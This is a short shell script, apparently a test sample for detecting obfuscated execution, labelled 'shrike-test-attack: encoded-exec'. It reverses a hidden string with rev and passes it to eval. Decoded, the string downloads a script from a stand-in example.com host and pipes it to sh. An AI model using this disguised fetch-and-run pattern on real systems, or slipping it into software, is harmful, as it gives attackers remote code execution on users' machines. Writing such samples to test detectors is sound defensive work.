#!/bin/sh
# shrike-test-attack: encoded-exec: reversed string decoded with rev before eval
c=$(echo 'hs | 1x/moc.elpmaxe.nc//:ptth LSsf- lruc' | rev)
eval "$c"
